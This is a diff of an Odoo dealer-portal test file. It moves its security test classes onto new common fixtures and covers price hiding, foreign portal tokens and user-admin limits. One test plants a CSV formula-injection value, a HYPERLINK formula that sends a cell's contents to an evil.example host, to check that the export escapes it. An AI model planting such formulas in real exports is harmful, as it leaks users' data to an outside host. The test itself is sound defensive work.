@@ -5,9 +5,10 @@ HTTP or JSON-RPC the way a portal user sends it."""
 import json
 
 from odoo import Command, fields
-from odoo.tests import HttpCase, JsonRpcException, new_test_user, tagged
+from odoo.tests import JsonRpcException, new_test_user, tagged
 
-from .test_selfservice_common import SelfServiceFixture
+from .common import DealerPortalHttpCommon
+from .common_selfservice import DealerPortalSelfServiceHttpCommon
 from .test_storefront_http import StorefrontHttpMixin
 
 
@@ -37,13 +38,12 @@ class RpcMixin:
 
 
 @tagged("post_install", "-at_install")
-class TestWarehouseSeesNoPrices(RpcMixin, StorefrontHttpMixin, SelfServiceFixture, HttpCase):
+class TestWarehouseSeesNoPrices(RpcMixin, StorefrontHttpMixin, DealerPortalSelfServiceHttpCommon):
     """F5: the warehouse role sees no price or amount anywhere."""
 
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
-        cls._setup_selfservice_data()
         cls.company.dealer_order_desk_documents = "none"
         cls.a_quote = cls._dealer_cart(cls.user_a_desk, [(cls.p_drill, 3)])
         cls.a_quote.write({"state": "sent", "website_id": False})
@@ -273,14 +273,13 @@ class TestWarehouseSeesNoPrices(RpcMixin, StorefrontHttpMixin, SelfServiceFixtur
 
 
 @tagged("post_install", "-at_install")
-class TestForeignTokens(RpcMixin, StorefrontHttpMixin, SelfServiceFixture, HttpCase):
+class TestForeignTokens(RpcMixin, StorefrontHttpMixin, DealerPortalSelfServiceHttpCommon):
     """F10: another dealer's cart or order token never brings a dealer user
     into that account: cart revival and the portal chatter."""
 
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
-        cls._setup_selfservice_data()
         cls.b_cart = cls._dealer_cart(cls.user_b_desk, [(cls.p_saw, 2)])
         cls.b_cart_token = cls.b_cart._portal_ensure_token()
         cls.b_order_token = cls.b_order._portal_ensure_token()
@@ -349,14 +348,9 @@ class TestForeignTokens(RpcMixin, StorefrontHttpMixin, SelfServiceFixture, HttpC
 
 
 @tagged("post_install", "-at_install")
-class TestHistoryExportAndBadInput(StorefrontHttpMixin, SelfServiceFixture, HttpCase):
+class TestHistoryExportAndBadInput(StorefrontHttpMixin, DealerPortalSelfServiceHttpCommon):
     """F12: formula injection in the CSV export; F13: non-numeric pages and
     verify tokens."""
-
-    @classmethod
-    def setUpClass(cls):
-        super().setUpClass()
-        cls._setup_selfservice_data()
 
     def test_export_escapes_formulas(self):
         self.a_order.client_order_ref = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -380,13 +374,8 @@ class TestHistoryExportAndBadInput(StorefrontHttpMixin, SelfServiceFixture, Http
 
 
 @tagged("post_install", "-at_install")
-class TestDealerAdminLimits(StorefrontHttpMixin, SelfServiceFixture, HttpCase):
+class TestDealerAdminLimits(StorefrontHttpMixin, DealerPortalHttpCommon):
     """F13: what a dealer administrator may not do with its users."""
-
-    @classmethod
-    def setUpClass(cls):
-        super().setUpClass()
-        cls._setup_dealer_portal_data()
 
     def test_cannot_reactivate_user_archived_by_manufacturer(self):
         self.user_a_ware.with_user(self.env.ref("base.user_admin")).action_archive()
@@ -430,14 +419,9 @@ class TestDealerAdminLimits(StorefrontHttpMixin, SelfServiceFixture, HttpCase):
 
 
 @tagged("post_install", "-at_install")
-class TestOneDealerPredicate(RpcMixin, StorefrontHttpMixin, SelfServiceFixture, HttpCase):
+class TestOneDealerPredicate(RpcMixin, StorefrontHttpMixin, DealerPortalSelfServiceHttpCommon):
     """F13: one definition of "is a dealer" for ordering and roles: the
     company is flagged a dealer or has a tier."""
-
-    @classmethod
-    def setUpClass(cls):
-        super().setUpClass()
-        cls._setup_selfservice_data()
 
     def test_tier_without_flag_gets_the_roles(self):
         self.dealer_a.is_dealer = False
@@ -460,13 +444,12 @@ class TestOneDealerPredicate(RpcMixin, StorefrontHttpMixin, SelfServiceFixture, 
 
 
 @tagged("post_install", "-at_install")
-class TestDealerConfigurationRights(RpcMixin, StorefrontHttpMixin, SelfServiceFixture, HttpCase):
+class TestDealerConfigurationRights(RpcMixin, StorefrontHttpMixin, DealerPortalHttpCommon):
     """F9: a salesperson with contact rights cannot configure a dealer."""
 
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
-        cls._setup_dealer_portal_data()
         cls.salesman = new_test_user(
             cls.env,
             login="dc_roles_sales",
@@ -524,7 +507,7 @@ def _today():
 
 
 @tagged("post_install", "-at_install")
-class TestWarehouseSeesNoReasonAmounts(RpcMixin, StorefrontHttpMixin, SelfServiceFixture, HttpCase):
+class TestWarehouseSeesNoReasonAmounts(RpcMixin, StorefrontHttpMixin, DealerPortalSelfServiceHttpCommon):
     """Red team: the reasons an order waits for approval, or was refused,
     quote its total, the threshold and the dealer's credit; the warehouse
     role, which sees no amounts, reads none of them."""
@@ -532,7 +515,6 @@ class TestWarehouseSeesNoReasonAmounts(RpcMixin, StorefrontHttpMixin, SelfServic
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
-        cls._setup_selfservice_data()
         cls.approver = new_test_user(cls.env, login="dc_rt_reason_approver", groups="sales_team.group_sale_manager")
         cls.env["dealer.approval.rule"].create(
             {"name": "Big orders", "condition": "amount_above", "amount": 100.0, "user_ids": [(6, 0, cls.approver.ids)]}
